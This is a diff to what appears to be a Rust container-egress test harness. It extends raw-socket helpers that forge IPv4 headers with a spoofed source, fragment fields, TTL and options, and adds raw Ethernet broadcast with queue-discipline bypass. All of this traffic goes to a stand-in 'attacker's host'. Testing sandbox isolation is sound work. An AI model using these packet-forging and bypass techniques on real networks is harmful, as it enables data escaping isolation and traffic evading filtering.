@@ -11,34 +11,60 @@ use nix::sys::socket::{
 };
 use nix::sys::time::TimeVal;
 
-use super::{Failed, target};
+use super::{Failed, sys, target};
 
 const PORT: u16 = 9999;
 /// IPv6's "no next header" would tell nothing; this number is nobody's.
 const NOBODY: u8 = 253;
 
+// linux/if_packet.h
+const SOL_PACKET: i32 = 263;
+const PACKET_QDISC_BYPASS: i32 = 20;
+
 /// Sends an IP packet of a protocol to the attacker's host.
 pub fn ip(protocol: u8, body: &[u8]) -> Result<String, Failed> {
-    ip_with(protocol, Ipv4Addr::UNSPECIFIED, &[], body)
+    ip_with(protocol, Shape::default(), body)
 }
 
-/// Likewise with a source and options, which come in words.
-pub fn ip_with(protocol: u8, source: Ipv4Addr, options: &[u8], body: &[u8]) -> Result<String, Failed> {
+/// What else a header says. Options come in words; the fragment is flags and offset in one.
+#[derive(Debug, Clone, Copy)]
+pub struct Shape<'a> {
+    /// Where it says that it comes from.
+    pub source: Ipv4Addr,
+    /// Its options.
+    pub options: &'a [u8],
+    /// Its flags and its place in that.
+    pub fragment: u16,
+    /// Its time to live.
+    pub ttl: u8,
+}
+
+impl Default for Shape<'_> {
+    fn default() -> Self {
+        Self { source: Ipv4Addr::UNSPECIFIED, options: &[], fragment: 0, ttl: 64 }
+    }
+}
+
+/// Likewise in another shape.
+pub fn ip_with(protocol: u8, shape: Shape<'_>, body: &[u8]) -> Result<String, Failed> {
     let fd = socket(Family::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)?;
     let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, 0));
     // The kernel fills in the length, the checksum, and a source that is missing.
-    let packet = header(protocol, source, options, body);
+    let packet = header(protocol, shape, body);
     sendto(fd.as_raw_fd(), &packet, &to, MsgFlags::empty())?;
     Ok("sent".to_owned())
 }
 
-fn header(protocol: u8, source: Ipv4Addr, options: &[u8], body: &[u8]) -> Vec<u8> {
-    let words = u8::try_from(5 + options.len() / 4).unwrap_or(5);
+/// An IPv4 packet to the attacker's host.
+pub fn header(protocol: u8, shape: Shape<'_>, body: &[u8]) -> Vec<u8> {
+    let words = u8::try_from(5 + shape.options.len() / 4).unwrap_or(5);
     let total = u16::try_from(usize::from(words) * 4 + body.len()).unwrap_or(u16::MAX).to_be_bytes();
-    let mut bytes = vec![0x40 | words, 0, total[0], total[1], 0x12, 0x34, 0, 0, 64, protocol, 0, 0];
-    bytes.extend(source.octets());
+    let mut bytes = vec![0x40 | words, 0, total[0], total[1], 0x12, 0x34];
+    bytes.extend(shape.fragment.to_be_bytes());
+    bytes.extend([shape.ttl, protocol, 0, 0]);
+    bytes.extend(shape.source.octets());
     bytes.extend(target::EVIL.octets());
-    bytes.extend(options);
+    bytes.extend(shape.options);
     let sum = checksum(&bytes);
     bytes[10..12].copy_from_slice(&sum.to_be_bytes());
     bytes.extend(body);
@@ -81,17 +107,35 @@ pub fn ipv6(payload: &[u8]) -> Vec<u8> {
 
 /// Ethertype and IPv4 packet around a datagram.
 pub fn ipv4_frame(datagram: &[u8]) -> Vec<u8> {
-    [&[8, 0][..], &header(17, Ipv4Addr::new(10, 0, 0, 9), &[], datagram)].concat()
+    ipv4_frame_of(17, datagram)
+}
+
+/// Likewise around what another protocol carries.
+pub fn ipv4_frame_of(protocol: u8, body: &[u8]) -> Vec<u8> {
+    let shape = Shape { source: Ipv4Addr::new(10, 0, 0, 9), ..Shape::default() };
+    [&[8, 0][..], &header(protocol, shape, body)].concat()
 }
 
 /// Sends a frame to everybody on the container's network; `rest` begins with the ethertype.
 pub fn frame(rest: &[u8]) -> Result<String, Failed> {
+    frame_with(rest, false)
+}
+
+/// Likewise, and past the queue of the device.
+pub fn frame_past_queue(rest: &[u8]) -> Result<String, Failed> {
+    frame_with(rest, true)
+}
+
+fn frame_with(rest: &[u8], past_queue: bool) -> Result<String, Failed> {
     let fd = socket(Family::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)?;
     let links = getifaddrs()?.filter(|one| one.interface_name == "eth0");
     let link = links.filter_map(|one| one.address).find_map(|address| address.as_link_addr().copied());
     let link = link.ok_or_else(|| Failed::Impossible("there is no eth0 here".to_owned()))?;
     let own = link.addr().unwrap_or_default();
     bind(fd.as_raw_fd(), &link)?;
+    if past_queue {
+        sys::set_option(&fd, SOL_PACKET, PACKET_QDISC_BYPASS, &1i32.to_ne_bytes())?;
+    }
     let mut bytes = [&[0xff; 6][..], &own, rest].concat();
     bytes.resize(bytes.len().max(60), 0);
     send(fd.as_raw_fd(), &bytes, MsgFlags::empty())?;
@@ -147,7 +191,9 @@ mod tests {
 
     #[test]
     fn a_header_sums_up_to_nothing() {
-        let bytes = header(17, Ipv4Addr::new(10, 0, 0, 1), &[1, 1, 1, 1], &udp(b"x"));
+        let source = Ipv4Addr::new(10, 0, 0, 1);
+        let shape = Shape { source, options: &[1, 1, 1, 1], ..Shape::default() };
+        let bytes = header(17, shape, &udp(b"x"));
         assert_eq!((bytes[0], checksum(&bytes[..24])), (0x46, 0));
         assert_eq!(usize::from(u16::from_be_bytes([bytes[2], bytes[3]])), bytes.len());
     }
